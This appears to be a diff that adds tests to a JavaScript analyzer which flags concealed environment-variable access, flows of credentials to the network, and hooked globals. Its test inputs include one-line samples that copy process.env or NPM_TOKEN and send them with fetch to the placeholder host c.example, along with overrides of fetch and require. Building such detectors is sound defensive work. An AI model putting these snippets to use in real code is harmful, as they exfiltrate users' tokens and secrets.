@@ -61,6 +61,13 @@ test("a name that was pieced together is said to be concealed, an ordinary one i
   assert.equal(concealed(`process["env"]["HOME"]`), false);
 });
 
+test("a variable's name that is put together is concealed where it is a secret's or the environment is disguised, and nowhere else", () => {
+  assert.equal(concealed(`const set = process.env["npm_config_" + "cache"]`), false);
+  assert.equal(concealed(`const drive = process.env[["=", "C:"].join("")]`), false);
+  assert.equal(concealed(`use(process.env["NPM_" + "TOKEN"])`), true);
+  assert.equal(concealed(`use(process["e" + "nv"].LANG)`), true);
+});
+
 test("what is read from the machine is followed to where it is sent", () => {
   assert.deepEqual(flowing(`const t = process.env.NPM_TOKEN; const b = { t }; fetch("https://c.example", { body: JSON.stringify(b) })`), [
     "credential-variable -> network",
@@ -83,6 +90,12 @@ test("what is read from the machine is followed to where it is sent", () => {
     ["network -> dynamic-code"],
   );
   assert.deepEqual(flowing(`eval(atob("${"QUJD".repeat(40)}"))`), ["encoded-text -> dynamic-code"]);
+  const sent = `fetch("https://c.example", { body: JSON.stringify(all) })`;
+  assert.deepEqual(flowing(`const all = {}; for (const key of Object.keys(process.env)) all[key] = process.env[key]; ${sent}`), [
+    "environment-whole -> network",
+  ]);
+  assert.deepEqual(flowing(`const all = {}; all.one = process.env.NPM_TOKEN; ${sent}`), ["credential-variable -> network"]);
+  assert.deepEqual(flowing(`const o = {}; o.token = process.env.NPM_TOKEN; o.url = "https://c.example"; fetch(o.url)`), []);
   assert.deepEqual(flowing(`const base = process.env.API_URL; fetch(base + "/v1"); use(process.env.NPM_TOKEN)`), []);
 });
 
@@ -155,6 +168,15 @@ test("an own member that holds a built-in value is no replaced global", () => {
   assert.deepEqual(seen(`const o = { n: 1 }; if (o.n === null) o.n = Number.NEGATIVE_INFINITY; o.get = fetch; o.get = mine`), []);
   assert.deepEqual(seen(`const w = window; w.fetch = mine`), ["global-hook fetch"]);
   assert.deepEqual(seen(`const define = Object.defineProperty.bind(Object);`), []);
+});
+
+test("what only fills in, and a module's own loader, replace nothing on which others rely", () => {
+  assert.deepEqual(seen(`Symbol.asyncDispose ??= Symbol("a"); globalThis.fetch ||= mine; window.atob = window.atob || mine`), []);
+  assert.deepEqual(seen(`require = mine`), []);
+  assert.deepEqual(seen(`window.fetch = mine || window.fetch; module.constructor.prototype.require = mine`), [
+    "global-hook fetch",
+    "global-hook node:module.prototype.require",
+  ]);
 });
 
 test("what a catch clause names is its own, and a var within is the function's", () => {
